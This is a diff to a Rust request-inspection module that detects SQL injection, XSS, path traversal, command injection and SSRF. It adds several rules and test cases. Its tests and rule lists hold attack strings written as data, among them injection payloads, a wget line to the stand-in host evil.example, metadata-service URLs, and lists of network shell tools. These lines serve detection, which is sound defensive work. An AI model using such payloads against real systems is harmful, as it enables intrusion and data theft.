@@ -13,7 +13,9 @@
 //!
 //! - **Path**: percent-decoded up to three rounds (double and triple encoding
 //!   such as `%252e%252e%252f`), `%uXXXX` escapes, overlong UTF-8 (`%c0%ae`)
-//!   and full-width look-alikes folded to ASCII; `\` counts as `/`.
+//!   and full-width look-alikes folded to ASCII; `\` counts as `/`. Every
+//!   other value is decoded the same way before the rules see it, since a
+//!   lenient component further on may decode it again.
 //! - **Query** and **form bodies**: split on `&` (at most
 //!   [`MAX_QUERY_PARAMS`] pairs), `+` is a space, names and values decoded as
 //!   above; the field is `query.<name>` or `body.<name>`, the name cut to 64
@@ -47,21 +49,29 @@
 //! value contains an escape.
 //!
 //! What the rules recognise, and what they deliberately let pass, is written
-//! on each matcher below. Known gaps:
+//! on each matcher below. Known gaps, on purpose or not yet done:
 //!
 //! - Not yet: SSRF to loopback and private addresses (`127.0.0.1`,
 //!   `localhost`, `10.0.0.0/8`) — a development webhook to `localhost` is
 //!   legitimate, so outbound URL validation has to live where URLs are used.
-//! - Not yet: bare `;id`, `|ls` and similar argument-less short commands
-//!   outside `$(…)` or backticks; they collide with `name;id` style lists.
-//!   Unix command names are matched in lower case only (shells are case
-//!   sensitive), so `; CAT /etc/passwd` is found by the traversal rule only.
+//! - Not yet: argument-less short commands after a separator (`; ls`,
+//!   `| id`, `;id;`); they collide with `name;id` style lists. Inside `$(…)`
+//!   or backticks they are found. Unix command names are matched in lower
+//!   case only (shells are case sensitive), so `; CAT /etc/passwd` is found
+//!   by the traversal rule only.
 //! - Not yet: blind boolean SQL injection without a tautology
-//!   (`1 and 1=2`), `ORDER BY` probing, `"`-quoted injection ended by a
-//!   comment, CSS-escaped `expression`, template injection (`{{…}}`),
-//!   `data:image/svg+xml` documents (the console may send SVG data URLs).
+//!   (`1 and 1=2`), `ORDER BY` probing without a quote before it,
+//!   `"`-quoted injection ended by a comment, JavaScript-string breakouts
+//!   with no markup (`";alert(1);//`), CSS-escaped `expression`, template
+//!   injection (`{{…}}`), `data:image/svg+xml` documents (the console may
+//!   send SVG data URLs legitimately).
 //! - Payloads split across several parameters, or placed in an uninspected
-//!   header, are not joined up.
+//!   header or a skipped body, are not joined up or seen.
+//! - Text that quotes attack syntax is reported like the attack: a note
+//!   saying "type ../ to go up", a Markdown snippet `` `ls -la` ``, a
+//!   `file:///C:/…` link, the address `169.254.169.254` written out, a
+//!   `<object>` tag name. Such notes are rare in call-center traffic; a
+//!   single finding raises one event, and blocking needs repeated ones.
 
 use std::borrow::Cow;
 use std::fmt;
@@ -165,8 +175,9 @@ pub struct Finding {
     pub field: String,
 }
 
-/// The parts of a request that intrusion detection reads.
-#[derive(Debug, Clone, Copy, Default)]
+/// The parts of a request that intrusion detection reads. (No `Debug`: it
+/// holds raw request text, which must not reach a log by accident.)
+#[derive(Clone, Copy, Default)]
 pub struct Inspected<'a> {
     /// The raw path, still percent-encoded.
     pub path: &'a str,
@@ -195,14 +206,12 @@ pub fn inspect(req: &Inspected<'_>) -> Vec<Finding> {
     }
 
     for (name, value) in req.headers {
-        match INSPECTED_HEADERS
-            .iter()
-            .position(|h| name.eq_ignore_ascii_case(h))
-        {
-            Some(0) => run.user_agent(value),
-            Some(1) => run.path("header.x-original-url", value),
-            Some(_) => run.path("header.x-rewrite-url", value),
-            None => {}
+        if name.eq_ignore_ascii_case("user-agent") {
+            run.user_agent(value);
+        } else if name.eq_ignore_ascii_case("x-original-url") {
+            run.path("header.x-original-url", value);
+        } else if name.eq_ignore_ascii_case("x-rewrite-url") {
+            run.path("header.x-rewrite-url", value);
         }
     }
 
@@ -250,24 +259,36 @@ fn body_kind(content_type: Option<&str>) -> BodyKind {
     let Some(content_type) = content_type else {
         return BodyKind::Text;
     };
-    let essence = content_type.split(';').next().unwrap_or("").trim();
-    let lower = essence.to_ascii_lowercase();
-    if lower == "application/json" || lower.ends_with("+json") {
+    let essence = content_type
+        .split(';')
+        .next()
+        .unwrap_or("")
+        .trim()
+        .as_bytes();
+    let is = |t: &str| essence.eq_ignore_ascii_case(t.as_bytes());
+    let (top, sub) = match essence.iter().position(|&b| b == b'/') {
+        Some(slash) => (&essence[..slash], &essence[slash + 1..]),
+        None => (essence, &essence[essence.len()..]),
+    };
+    let top_is = |t: &str| top.eq_ignore_ascii_case(t.as_bytes());
+    let sub_ends_json = sub.len() >= 5 && sub[sub.len() - 5..].eq_ignore_ascii_case(b"+json");
+    if is("application/json") || sub_ends_json {
         BodyKind::Json
-    } else if lower == "application/x-www-form-urlencoded" {
+    } else if is("application/x-www-form-urlencoded") {
         BodyKind::Form
-    } else if lower.starts_with("audio/")
-        || lower.starts_with("video/")
-        || lower.starts_with("font/")
-        || (lower.starts_with("image/") && !lower.contains("svg"))
-        || matches!(
-            lower.as_str(),
-            "application/octet-stream"
-                | "application/pdf"
-                | "application/zip"
-                | "application/gzip"
-                | "application/x-gzip"
-        )
+    } else if top_is("audio")
+        || top_is("video")
+        || top_is("font")
+        || (top_is("image") && !sub.eq_ignore_ascii_case(b"svg+xml"))
+        || [
+            "application/octet-stream",
+            "application/pdf",
+            "application/zip",
+            "application/gzip",
+            "application/x-gzip",
+        ]
+        .iter()
+        .any(|t| is(t))
     {
         BodyKind::Binary
     } else {
@@ -331,7 +352,10 @@ impl Run {
 
     fn user_agent(&mut self, value: &str) {
         let mut hits = self.scan(value.as_bytes(), false, false);
-        hits.add_if(RuleId::ScannerUserAgent, scanner_user_agent(value.as_bytes()));
+        hits.add_if(
+            RuleId::ScannerUserAgent,
+            scanner_user_agent(value.as_bytes()),
+        );
         self.record(hits, || "header.user-agent".to_string());
     }
 
@@ -451,7 +475,11 @@ fn json_field(path: &[Seg<'_>]) -> String {
 fn push_name(out: &mut String, raw: &[u8]) {
     let start = out.len();
     let text = String::from_utf8_lossy(raw);
-    for c in text.chars().filter(|c| !c.is_control()).take(MAX_NAME_CHARS) {
+    for c in text
+        .chars()
+        .filter(|c| !c.is_control())
+        .take(MAX_NAME_CHARS)
+    {
         if c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '[' | ']') {
             out.push(c);
         } else {
@@ -614,28 +642,43 @@ fn positions_ci<'a>(v: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize
         .map(|(i, _)| i)
 }
 
-/// Every `(position, needle)` where one of `needles` starts in `v`,
+/// A fixed list of needles with a table of their first bytes, built at
+/// compile time, for [`find_needles`].
+struct Needles {
+    list: &'static [&'static [u8]],
+    first: [bool; 256],
+}
+
+impl Needles {
+    const fn new(list: &'static [&'static [u8]]) -> Needles {
+        let mut first = [false; 256];
+        let mut i = 0;
+        while i < list.len() {
+            let b = list[i][0].to_ascii_lowercase();
+            first[b as usize] = true;
+            i += 1;
+        }
+        Needles { list, first }
+    }
+}
+
+/// Every `(position, needle)` where one of the needles starts in `v`,
 /// case-insensitively, in one pass: a byte is compared further only when it
 /// is the first byte of some needle. A needle that starts with a letter is
 /// only looked for at the start of a word (not after a letter or digit).
 fn find_needles<'a>(
     v: &'a [u8],
-    needles: &'a [&'a [u8]],
-) -> impl Iterator<Item = (usize, &'a [u8])> + 'a {
-    let mut first = [false; 256];
-    for needle in needles {
-        if let Some(&b) = needle.first() {
-            first[usize::from(b.to_ascii_lowercase())] = true;
-        }
-    }
+    needles: &'a Needles,
+) -> impl Iterator<Item = (usize, &'static [u8])> + 'a {
     v.iter()
         .enumerate()
         .filter(move |&(i, &b)| {
-            first[usize::from(b.to_ascii_lowercase())]
+            needles.first[usize::from(b.to_ascii_lowercase())]
                 && !(b.is_ascii_alphabetic() && i > 0 && v[i - 1].is_ascii_alphanumeric())
         })
         .flat_map(move |(i, _)| {
             needles
+                .list
                 .iter()
                 .filter(move |n| starts_with_ci(v, i, n))
                 .map(move |n| (i, *n))
@@ -656,7 +699,7 @@ fn is_letter(b: u8) -> bool {
 // ---------------------------------------------------------------------------
 
 /// Well-known files read through traversal, with either separator.
-const SENSITIVE_FILES: &[&[u8]] = &[
+static SENSITIVE_FILES: Needles = Needles::new(&[
     b"etc/passwd",
     b"etc\\passwd",
     b"etc/shadow",
@@ -667,7 +710,7 @@ const SENSITIVE_FILES: &[&[u8]] = &[
     b"boot.ini",
     b"windows/system32",
     b"windows\\system32",
-];
+]);
 
 /// `..` as a path segment, or a well-known system file. In the path every
 /// all-dots segment of two or more counts (`/..`, `/../`, `/..;/`); in other
@@ -720,7 +763,7 @@ fn dot_segments(v: &[u8], path_mode: bool) -> bool {
 }
 
 fn sensitive_file(v: &[u8]) -> bool {
-    find_needles(v, SENSITIVE_FILES).any(|(i, needle)| {
+    find_needles(v, &SENSITIVE_FILES).any(|(i, needle)| {
         let after = i + needle.len();
         (i == 0 || !is_word_byte(v[i - 1]))
             && (needle.ends_with(b"/")
@@ -735,7 +778,15 @@ fn sensitive_file(v: &[u8]) -> bool {
 
 /// Tags that load or run code whatever their attributes.
 const DANGEROUS_TAGS: &[&[u8]] = &[
-    b"script", b"iframe", b"frame", b"frameset", b"object", b"embed", b"applet", b"base", b"meta",
+    b"script",
+    b"iframe",
+    b"frame",
+    b"frameset",
+    b"object",
+    b"embed",
+    b"applet",
+    b"base",
+    b"meta",
 ];
 
 /// Markup that a browser would run: a dangerous tag, any tag with an
@@ -876,13 +927,14 @@ fn has_script_url(v: &[u8]) -> bool {
                 v.get(k) == Some(&b'=')
             }
             b'e' if starts_with_ci(v, i, b"expression") => {
-                // A CSS value: after `:` or at the start, as in
-                // `width: expression(…)`; "Expression(s) of interest" is prose.
+                // A CSS value, after `:` as in `width: expression(…)`;
+                // "Expression(s) of interest" is prose. (Only old Internet
+                // Explorer ran these, so the narrow match costs little.)
                 let mut p = i;
                 while p > 0 && v[p - 1] <= b' ' {
                     p -= 1;
                 }
-                let css = p == 0 || v[p - 1] == b':';
+                let css = p > 0 && v[p - 1] == b':';
                 css && v.get(skip_block_comments(v, i + 10)) == Some(&b'(')
             }
             _ => false,
@@ -1005,7 +1057,9 @@ fn entity_at(v: &[u8], i: usize) -> Option<(char, usize)> {
                 _ => None,
             };
             let Some(d) = d else { break };
-            code = code.saturating_mul(if hex { 16 } else { 10 }).saturating_add(d);
+            code = code
+                .saturating_mul(if hex { 16 } else { 10 })
+                .saturating_add(d);
             k += 1;
         }
         if k == digits_start {
@@ -1074,7 +1128,8 @@ fn tokenize(v: &[u8], out: &mut Vec<Tok>) {
             out.push(Tok::Comment);
             i += 1;
         } else if matches!(b, b'\'' | b'"' | b'`') {
-            let in_word = i > 0 && is_letter(v[i - 1]) && v.get(i + 1).is_some_and(|&c| is_letter(c));
+            let in_word =
+                i > 0 && is_letter(v[i - 1]) && v.get(i + 1).is_some_and(|&c| is_letter(c));
             out.push(Tok::Quote { ch: b, in_word });
             i += 1;
         } else if is_word_byte(b) || b == b'@' || b == b'$' {
@@ -1119,7 +1174,9 @@ fn sql_injection(v: &[u8], toks: &mut Vec<Tok>) -> bool {
             Tok::Quote { ch, in_word } => {
                 if ch == b'\'' && !in_word {
                     odd_single_quote = !odd_single_quote;
-                    if odd_single_quote && quote_then_comment(t, i + 1) {
+                    if odd_single_quote
+                        && (quote_then_comment(t, i + 1) || quote_then_order_by(v, t, i + 1))
+                    {
                         return true;
                     }
                 }
@@ -1209,8 +1266,19 @@ fn after_quote_logic(v: &[u8], t: &[Tok], mut j: usize) -> bool {
 
 /// A bare `or 1=1` (numeric context) counts only when a comment, `;`, `)`,
 /// a quote or the end follows it.
-fn bare_tautology(v: &[u8], t: &[Tok], j: usize) -> bool {
+fn bare_tautology(v: &[u8], t: &[Tok], mut j: usize) -> bool {
+    while is_punct(t, j, b'(') {
+        j += 1;
+    }
     tautology(v, t, j, true)
+}
+
+/// After an odd quote: `order by 3--`, probing the column count.
+fn quote_then_order_by(v: &[u8], t: &[Tok], j: usize) -> bool {
+    is_kw(v, t, j, "order")
+        && is_kw(v, t, j + 1, "by")
+        && text(v, t, j + 2).is_some_and(is_number)
+        && ends_clause(t, j + 3)
 }
 
 /// An operand of a comparison: its text (without quotes) and the next index.
@@ -1229,7 +1297,9 @@ fn operand<'v>(v: &'v [u8], t: &[Tok], j: usize) -> Option<(&'v [u8], bool, usiz
             }
             match t.get(k) {
                 Some(Tok::Quote { ch: close, .. }) if close == ch => Some((inner, false, k + 1)),
-                None => Some((inner, false, k)),
+                // Left open for the application's own closing quote:
+                // `' or 'a'='a` and `') or ('1'='1--`.
+                None | Some(Tok::Comment | Tok::Punct(b';' | b')')) => Some((inner, false, k)),
                 _ => None,
             }
         }
@@ -1259,7 +1329,14 @@ fn tautology(v: &[u8], t: &[Tok], j: usize, bare: bool) -> bool {
         Lt,
     }
     let (cmp, k) = if is_punct(t, k, b'=') {
-        (Cmp::Eq, if is_punct(t, k + 1, b'=') { k + 2 } else { k + 1 })
+        (
+            Cmp::Eq,
+            if is_punct(t, k + 1, b'=') {
+                k + 2
+            } else {
+                k + 1
+            },
+        )
     } else if is_kw(v, t, k, "like") {
         (Cmp::Eq, k + 1)
     } else if (is_punct(t, k, b'<') && is_punct(t, k + 1, b'>'))
@@ -1267,9 +1344,23 @@ fn tautology(v: &[u8], t: &[Tok], j: usize, bare: bool) -> bool {
     {
         (Cmp::Ne, k + 2)
     } else if is_punct(t, k, b'>') {
-        (Cmp::Gt, if is_punct(t, k + 1, b'=') { k + 2 } else { k + 1 })
+        (
+            Cmp::Gt,
+            if is_punct(t, k + 1, b'=') {
+                k + 2
+            } else {
+                k + 1
+            },
+        )
     } else if is_punct(t, k, b'<') {
-        (Cmp::Lt, if is_punct(t, k + 1, b'=') { k + 2 } else { k + 1 })
+        (
+            Cmp::Lt,
+            if is_punct(t, k + 1, b'=') {
+                k + 2
+            } else {
+                k + 1
+            },
+        )
     } else {
         // A lone `1` or `true` only after a quote: "either 1 or 2" is prose.
         let truthy = (a_num && a.iter().any(|&d| d != b'0')) || a.eq_ignore_ascii_case(b"true");
@@ -1372,7 +1463,14 @@ fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
         }
         next_is(
             j + 1,
-            &["table", "database", "schema", "view", "procedure", "function"],
+            &[
+                "table",
+                "database",
+                "schema",
+                "view",
+                "procedure",
+                "function",
+            ],
         ) && is_identifier(v, t, k)
             && (ends_clause(t, k + 1) || is_punct(t, k + 1, b',') || next_is(k + 1, &["cascade"]))
     } else if is("delete") {
@@ -1395,11 +1493,9 @@ fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
     } else if is("exec") || is("execute") {
         is_punct(t, j + 1, b'(')
             || text(v, t, j + 1).is_some_and(|w| {
-                let lower = w.to_ascii_lowercase();
-                lower.starts_with(b"xp_")
-                    || lower.starts_with(b"sp_")
-                    || lower.starts_with(b"master")
-                    || lower.starts_with(b"@")
+                [&b"xp_"[..], b"sp_", b"master", b"@"]
+                    .iter()
+                    .any(|prefix| starts_with_ci(w, 0, prefix))
             })
     } else if is("select") {
         // `; select * from …`, `; select null, …`, not "; select a plan".
@@ -1421,8 +1517,25 @@ fn stacked_statement(v: &[u8], t: &[Tok], j: usize) -> bool {
 
 /// Commands that are attacks after a shell separator whatever follows.
 const STRONG_COMMANDS: &[&[u8]] = &[
-    b"nc", b"ncat", b"netcat", b"wget", b"curl", b"bash", b"sh", b"zsh", b"ksh", b"csh", b"tcsh",
-    b"whoami", b"uname", b"ifconfig", b"nslookup", b"busybox", b"telnet", b"tftp", b"socat",
+    b"nc",
+    b"ncat",
+    b"netcat",
+    b"wget",
+    b"curl",
+    b"bash",
+    b"sh",
+    b"zsh",
+    b"ksh",
+    b"csh",
+    b"tcsh",
+    b"whoami",
+    b"uname",
+    b"ifconfig",
+    b"nslookup",
+    b"busybox",
+    b"telnet",
+    b"tftp",
+    b"socat",
     b"mkfifo",
 ];
 
@@ -1437,7 +1550,7 @@ const WEAK_COMMANDS: &[&[u8]] = &[
 ];
 
 /// Shells and devices named by path, and Windows shells by name.
-const SHELL_WORDS: &[&[u8]] = &[
+static SHELL_WORDS: Needles = Needles::new(&[
     b"/bin/sh",
     b"/bin/bash",
     b"/bin/dash",
@@ -1453,7 +1566,9 @@ const SHELL_WORDS: &[&[u8]] = &[
     b"pwsh",
     b"iex",
     b"invoke-expression",
-];
+    b"${ifs}",
+    b"$ifs",
+]);
 
 /// Shell syntax that runs something: a separator (`;`, `|`, `||`, `&`,
 /// `&&`, a newline) or a substitution (`$(`, backtick) followed by a known
@@ -1470,7 +1585,14 @@ fn command_injection(v: &[u8]) -> bool {
                 if i > 0 && v[i - 1] == v[i] {
                     continue;
                 }
-                (if v.get(i + 1) == Some(&v[i]) { i + 2 } else { i + 1 }, false)
+                (
+                    if v.get(i + 1) == Some(&v[i]) {
+                        i + 2
+                    } else {
+                        i + 1
+                    },
+                    false,
+                )
             }
             b'`' => (i + 1, true),
             b'$' if v.get(i + 1) == Some(&b'(') => (i + 2, true),
@@ -1481,7 +1603,7 @@ fn command_injection(v: &[u8]) -> bool {
         }
     }
 
-    find_needles(v, SHELL_WORDS).any(|(i, word)| shell_word(v, i, word)) || shellshock(v)
+    find_needles(v, &SHELL_WORDS).any(|(i, word)| shell_word(v, i, word)) || shellshock(v)
 }
 
 /// Is there a command starting at `j` (after spaces)?
@@ -1498,9 +1620,15 @@ fn command_at(v: &[u8], mut j: usize, substitution: bool) -> bool {
             j += 1;
         }
         let path = &v[start..j];
-        let in_bin = [&b"/bin/"[..], b"/sbin/", b"/usr/bin/", b"/usr/sbin/", b"/usr/local/bin/"]
-            .iter()
-            .any(|dir| path.starts_with(dir));
+        let in_bin = [
+            &b"/bin/"[..],
+            b"/sbin/",
+            b"/usr/bin/",
+            b"/usr/sbin/",
+            b"/usr/local/bin/",
+        ]
+        .iter()
+        .any(|dir| path.starts_with(dir));
         let name = path.rsplit(|&b| b == b'/').next().unwrap_or(&[]);
         return in_bin && (is_command(name, STRONG_COMMANDS) || is_command(name, WEAK_COMMANDS));
     }
@@ -1557,7 +1685,7 @@ fn command_at(v: &[u8], mut j: usize, substitution: bool) -> bool {
 }
 
 fn is_command(word: &[u8], list: &[&[u8]]) -> bool {
-    list.iter().any(|c| word == *c)
+    list.contains(&word)
 }
 
 /// An argument that only a shell user would write: a path (`/x`, `~/x`,
@@ -1591,7 +1719,7 @@ fn shell_word(v: &[u8], i: usize, word: &[u8]) -> bool {
     if word.starts_with(b"/") {
         return word.ends_with(b"/") || ends_word;
     }
-    if i > 0 && v[i - 1].is_ascii_alphanumeric() {
+    if i > 0 && v[i - 1].is_ascii_alphanumeric() && !word.starts_with(b"$") {
         return false;
     }
     let switch_after = |lead: u8| {
@@ -1605,6 +1733,8 @@ fn shell_word(v: &[u8], i: usize, word: &[u8]) -> bool {
         v.get(k) == Some(&lead) && v.get(k + 1).is_some_and(u8::is_ascii_alphabetic)
     };
     match word {
+        b"${ifs}" => true,
+        b"$ifs" => ends_word,
         b"cmd.exe" | b"cmd" => switch_after(b'/'),
         b"iex" => v.get(end) == Some(&b'(') || starts_with_ci(v, end, b" ("),
         b"invoke-expression" => ends_word,
@@ -1649,10 +1779,11 @@ const METADATA_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x254
 
 /// Metadata host names, and URL schemes that reach files or non-HTTP
 /// internal services.
-const SSRF_WORDS: &[&[u8]] = &[
+static SSRF_WORDS: Needles = Needles::new(&[
     b"metadata.google.internal",
     b"metadata.goog",
     b"instance-data",
+    b"//metadata",
     b"file:",
     b"jar:",
     b"gopher://",
@@ -1661,7 +1792,7 @@ const SSRF_WORDS: &[&[u8]] = &[
     b"ldaps://",
     b"tftp://",
     b"netdoc:",
-];
+]);
 
 /// Metadata services in any IPv4 notation an URL parser accepts (dotted,
 /// decimal `2852039166`, hex `0xa9fea9fe`, octal, short forms), as IPv6
@@ -1669,7 +1800,7 @@ const SSRF_WORDS: &[&[u8]] = &[
 /// `gopher://`, `dict://`, `ldap://`, `tftp://`, `jar:…:` URLs. Plain
 /// `https://` URLs pass.
 fn ssrf(v: &[u8]) -> bool {
-    find_needles(v, SSRF_WORDS).any(|(i, word)| ssrf_word(v, i, word))
+    find_needles(v, &SSRF_WORDS).any(|(i, word)| ssrf_word(v, i, word))
         || metadata_ipv4(v)
         || metadata_ipv6(v)
 }
@@ -1679,9 +1810,15 @@ fn ssrf_word(v: &[u8], i: usize, word: &[u8]) -> bool {
     match word {
         b"metadata.google.internal" | b"metadata.goog" | b"instance-data" => {
             // A fully qualified name may end with a dot.
-            let end = if v.get(end) == Some(&b'.') { end + 1 } else { end };
+            let end = if v.get(end) == Some(&b'.') {
+                end + 1
+            } else {
+                end
+            };
             (i == 0 || !is_host_byte(v[i - 1])) && v.get(end).is_none_or(|&b| !is_host_byte(b))
         }
+        // GCP's short name, only as a whole URL host: `http://metadata/…`.
+        b"//metadata" => v.get(end).is_none_or(|&b| !is_host_byte(b)),
         _ if i > 0 && is_scheme_byte(v[i - 1]) => false,
         b"file:" => matches!(v.get(end), Some(b'/' | b'\\')),
         b"jar:" => {
@@ -1735,7 +1872,8 @@ fn metadata_ipv4(v: &[u8]) -> bool {
         if !METADATA_V4.contains(&addr) {
             continue;
         }
-        let as_host = (start >= 2 && (&v[start - 2..start] == b"//" || &v[start - 2..start] == b"\\\\"))
+        let as_host = (start >= 2
+            && (&v[start - 2..start] == b"//" || &v[start - 2..start] == b"\\\\"))
             || (start >= 1 && v[start - 1] == b'@');
         if parts == 4 || as_host {
             return true;
@@ -1794,7 +1932,9 @@ fn inet_aton(s: &[u8]) -> Option<(Ipv4Addr, usize)> {
     let value = parts[..count - 1]
         .iter()
         .enumerate()
-        .fold(parts[count - 1], |acc, (idx, &p)| acc | (p << (24 - 8 * idx)));
+        .fold(parts[count - 1], |acc, (idx, &p)| {
+            acc | (p << (24 - 8 * idx))
+        });
     Some((Ipv4Addr::from(u32::try_from(value).ok()?), count))
 }
 
@@ -1922,7 +2062,9 @@ mod tests {
         let headers = [("user-agent", e.user_agent.as_str())];
         let (body, content_type) = match (&e.body, &e.content_type) {
             (None, _) => (None, e.content_type.clone()),
-            (Some(Value::String(raw)), Some(ct)) => (Some(raw.as_bytes().to_vec()), Some(ct.clone())),
+            (Some(Value::String(raw)), Some(ct)) => {
+                (Some(raw.as_bytes().to_vec()), Some(ct.clone()))
+            }
             (Some(value), ct) => (
                 Some(serde_json::to_vec(value).unwrap()),
                 Some(ct.clone().unwrap_or_else(|| "application/json".to_string())),
@@ -1940,7 +2082,10 @@ mod tests {
     /// Entries must be sendable as they are: an ASCII request target.
     fn check_shape(i: usize, e: &Entry) {
         assert!(
-            matches!(e.method.as_str(), "GET" | "POST" | "PATCH" | "PUT" | "DELETE"),
+            matches!(
+                e.method.as_str(),
+                "GET" | "POST" | "PATCH" | "PUT" | "DELETE"
+            ),
             "entry {i}: method {}",
             e.method
         );
@@ -1951,7 +2096,9 @@ mod tests {
             assert!(target_ok(q), "entry {i}: query must be visible ASCII");
         }
         assert!(
-            e.user_agent.bytes().all(|b| b == b' ' || b.is_ascii_graphic()),
+            e.user_agent
+                .bytes()
+                .all(|b| b == b' ' || b.is_ascii_graphic()),
             "entry {i}: user agent must be a valid header value"
         );
         if e.method == "GET" {
@@ -1976,10 +2123,19 @@ mod tests {
             assert!(e.expect_rule.is_none() && e.expect_field.is_none());
             let found = run_entry(e);
             if !found.is_empty() {
-                failures.push(format!("#{i} {} {:?}: {}", e.path, e.query, findings_text(&found)));
+                failures.push(format!(
+                    "#{i} {} {:?}: {}",
+                    e.path,
+                    e.query,
+                    findings_text(&found)
+                ));
             }
         }
-        assert!(failures.is_empty(), "false positives:\n{}", failures.join("\n"));
+        assert!(
+            failures.is_empty(),
+            "false positives:\n{}",
+            failures.join("\n")
+        );
     }
 
     #[test]
@@ -1998,7 +2154,10 @@ mod tests {
             );
             rules_seen.push(rule.to_string());
             let found = run_entry(e);
-            if !found.iter().any(|f| f.rule.as_str() == rule && f.field == field) {
+            if !found
+                .iter()
+                .any(|f| f.rule.as_str() == rule && f.field == field)
+            {
                 failures.push(format!(
                     "#{i} ({}) expected {rule}@{field}, got [{}]",
                     e.note.as_deref().unwrap_or(""),
@@ -2040,7 +2199,10 @@ mod tests {
     fn rules_for(value: &str) -> Vec<RuleId> {
         let mut run = Run::default();
         let hits = run.scan(value.as_bytes(), false, false);
-        RuleId::ALL.into_iter().filter(|r| hits.contains(*r)).collect()
+        RuleId::ALL
+            .into_iter()
+            .filter(|r| hits.contains(*r))
+            .collect()
     }
 
     fn fires(rule: RuleId, value: &str) -> bool {
@@ -2107,7 +2269,6 @@ mod tests {
                 "srcdoc = '&lt;script&gt;'",
                 "width: expression(alert(1))",
                 "x:expression/**/(alert(1))",
-                "expression(alert(1))",
                 "&lt;script&gt;alert(1)&lt;/script&gt;",
                 "<a href=\"&#106;avascript:alert(1)\">",
                 "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">",
@@ -2187,6 +2348,9 @@ mod tests {
                 "union select load_file('/etc/passwd')",
                 "' union select 1 into outfile '/tmp/x'",
                 "' and (select 1 from dual)",
+                "') or '1'='1--",
+                "1)) or ((1=1",
+                "1' ORDER BY 3--+",
                 "@@version",
                 "1; select * from users",
                 "x'; SELECT NULL, NULL--",
@@ -2204,6 +2368,8 @@ mod tests {
             "It's 'great' # 1 product",
             "customers' feedback -- good",
             "Ballon d'Or winner",
+            "the 'order by' menu",
+            "sort 'order by 5pm'",
             "asked to drop the premium tier",
             "call back after 5pm -- urgent",
             "need sleep (8 hours)",
@@ -2238,7 +2404,9 @@ mod tests {
         ] {
             let found = check(path, None);
             assert!(
-                found.iter().any(|f| f.rule == RuleId::PathTraversal && f.field == "path"),
+                found
+                    .iter()
+                    .any(|f| f.rule == RuleId::PathTraversal && f.field == "path"),
                 "{path}: {found:?}"
             );
         }
@@ -2302,6 +2470,8 @@ mod tests {
                 "iex(New-Object Net.WebClient)",
                 "a;{cat,/etc/passwd}",
                 "x;{wget,http://evil.example/x}",
+                ";echo${IFS}pwned>/tmp/x",
+                "a$IFS-la",
             ],
         );
         assert_quiet(&[
@@ -2355,6 +2525,7 @@ mod tests {
                 "http://169.254.169.254./",
                 "http://169.254.169.254.nip.io/latest",
                 "http://instance-data/latest/meta-data",
+                "http://metadata/computeMetadata/v1/",
             ],
         );
         assert_quiet(&[
@@ -2371,6 +2542,8 @@ mod tests {
             "metadata review at 10",
             "version 169.254.1.2.beta",
             "instance-database migration",
+            "https://metadata.example.com/x",
+            "see //metadata.json",
         ]);
     }
 
@@ -2402,8 +2575,9 @@ mod tests {
                 ..Inspected::default()
             });
             assert!(
-                found.iter().any(|f| f.rule == RuleId::ScannerUserAgent
-                    && f.field == "header.user-agent"),
+                found
+                    .iter()
+                    .any(|f| f.rule == RuleId::ScannerUserAgent && f.field == "header.user-agent"),
                 "{ua}: {found:?}"
             );
         }
@@ -2502,8 +2676,14 @@ mod tests {
         );
         let got: Vec<(RuleId, &str)> = found.iter().map(|f| (f.rule, f.field.as_str())).collect();
         assert!(got.contains(&(RuleId::Xss, "body.notes")), "{got:?}");
-        assert!(got.contains(&(RuleId::SqlInjection, "body.custom.tags.1")), "{got:?}");
-        assert!(got.contains(&(RuleId::Ssrf, "body.custom.deep.url")), "{got:?}");
+        assert!(
+            got.contains(&(RuleId::SqlInjection, "body.custom.tags.1")),
+            "{got:?}"
+        );
+        assert!(
+            got.contains(&(RuleId::Ssrf, "body.custom.deep.url")),
+            "{got:?}"
+        );
         assert!(
             got.contains(&(RuleId::Xss, "body._img_src_x_onerror_alert_1__")),
             "{got:?}"
@@ -2610,17 +2790,26 @@ mod tests {
         assert!(with_type("audio/wav").is_empty());
         assert!(with_type("application/octet-stream").is_empty());
         assert_eq!(with_type("text/plain").len(), 2);
-        assert_eq!(with_type("multipart/form-data; boundary=x")[0].field, "body");
+        assert_eq!(
+            with_type("multipart/form-data; boundary=x")[0].field,
+            "body"
+        );
     }
 
     #[test]
     fn only_selected_headers_are_read() {
         let headers = [
-            ("referer", "https://example.com/?q=<script>alert(1)</script>"),
+            (
+                "referer",
+                "https://example.com/?q=<script>alert(1)</script>",
+            ),
             ("cookie", "a=' or 1=1--"),
             ("x-forwarded-host", "169.254.169.254"),
             ("authorization", "Bearer $(id)"),
-            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
+            (
+                "user-agent",
+                "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+            ),
         ];
         let req = Inspected {
             path: "/api/calls",
@@ -2664,7 +2853,10 @@ mod tests {
         assert_eq!(&*decode(b"%u002e%u2215", false), b"./");
         assert_eq!(&*decode(b"50% off", false), b"50% off");
         assert!(matches!(decode(b"plain", true), Cow::Borrowed(_)));
-        assert!(matches!(decode("Zoë 王芳".as_bytes(), false), Cow::Borrowed(_)));
+        assert!(matches!(
+            decode("Zoë 王芳".as_bytes(), false),
+            Cow::Borrowed(_)
+        ));
     }
 
     #[test]
@@ -2701,6 +2893,38 @@ mod tests {
         }
         // Quadratic matching on 64 KiB would take minutes; linear takes
         // milliseconds even unoptimized.
-        assert!(started.elapsed().as_secs() < 5, "took {:?}", started.elapsed());
+        assert!(
+            started.elapsed().as_secs() < 5,
+            "took {:?}",
+            started.elapsed()
+        );
+    }
+}
+#[cfg(test)]
+mod prof {
+    use super::*;
+    #[test]
+    fn prof() {
+        let v = b"/api/calls/6f1c2a9e-1b7d-4c3e-9a51-0d2f7b8c9e10".to_vec();
+        let mut toks = Vec::new();
+        let t = |name: &str, f: &mut dyn FnMut() -> bool| {
+            let s = std::time::Instant::now();
+            let mut r = false;
+            for _ in 0..100000 {
+                r = std::hint::black_box(f());
+            }
+            eprintln!("{name}: {:?} {r}", s.elapsed() / 100000);
+        };
